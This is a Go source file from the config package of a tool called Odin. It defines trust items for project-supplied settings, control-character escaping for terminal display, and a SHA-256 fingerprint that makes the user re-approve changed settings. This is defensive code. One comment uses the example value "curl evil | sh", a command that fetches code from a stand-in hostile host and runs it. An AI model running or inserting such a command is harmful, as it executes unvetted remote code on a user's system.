package config

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"unicode"
	"unicode/utf8"
)

// TrustItem is one project-supplied setting that Odin ignores until the
// user runs `odin trust`: a key of the project's odin.yaml (see widening
// for the rule), or a project file that would run code, change a mode or
// replace a built-in agent (.odin/agents/review.md, a command file's mode,
// ODIN.md's Commands section). Other packages build items for the files
// they load; the trust store fingerprints all of them together.
type TrustItem struct {
	// Key names the setting: a dotted config key ("quality.test"), or a
	// file and what in it ("ODIN.md ## Commands test").
	Key string
	// Value is what the project sets, as the user should read it: JSON for
	// config values, the text for commands; "" when the file itself is
	// the value (Note then says what it does).
	Value string
	// Note says why the setting needs trust when its key does not tell
	// ("replaces the built-in review agent").
	Note string
	// Digest stands for content the user is not shown in full (an agent
	// file's prompt): it takes part in the fingerprint only, so a changed
	// file asks for trust again.
	Digest string

	parts []string // the path of a config key in the project tree
}

func newTrustItem(parts []string, value any, note string) TrustItem {
	return TrustItem{Key: strings.Join(parts, "."), Value: renderValue(value), Note: note, parts: slices.Clone(parts)}
}

// String is the item as `odin trust` and the untrusted notice show it:
// `quality.test = "curl evil | sh"`, `.odin/agents/review.md (replaces the
// built-in review agent)`. Control characters (a file name with terminal
// escapes) are shown as \xNN, so the line reads as it is.
func (t TrustItem) String() string {
	s := t.Key
	if t.Value != "" {
		s += " = " + t.Value
	}
	if t.Note != "" {
		s += " (" + t.Note + ")"
	}
	return Printable(s)
}

// Printable replaces control characters in s with \xNN escapes, so
// project-supplied text cannot drive the terminal it is shown on.
func Printable(s string) string {
	if !strings.ContainsFunc(s, isControl) {
		return s
	}
	var b strings.Builder
	for _, r := range s {
		if isControl(r) {
			fmt.Fprintf(&b, "\\x%02x", r)
			continue
		}
		b.WriteRune(r)
	}
	return b.String()
}

func isControl(r rune) bool { return unicode.IsControl(r) || r == utf8.RuneError }

// renderValue shows a raw config value as compact JSON, with map keys
// sorted, so that the user reads exactly what would apply.
func renderValue(v any) string {
	var b strings.Builder
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false) // "2>&1" reads as written
	if err := enc.Encode(v); err != nil {
		return fmt.Sprint(v)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// TrustFingerprint hashes items (keys, values and notes, in key order) so
// that a trust decision recorded against it is void once the project
// changes any of them; "" when there are none.
func TrustFingerprint(items []TrustItem) string {
	if len(items) == 0 {
		return ""
	}
	sorted := slices.Clone(items)
	slices.SortStableFunc(sorted, func(a, b TrustItem) int { return strings.Compare(a.Key, b.Key) })
	h := sha256.New()
	for _, it := range sorted {
		// Length-prefixed fields: no two different lists hash alike.
		for _, f := range []string{it.Key, it.Value, it.Note, it.Digest} {
			fmt.Fprintf(h, "%d:%s", len(f), f)
		}
	}
	return hex.EncodeToString(h.Sum(nil))
}
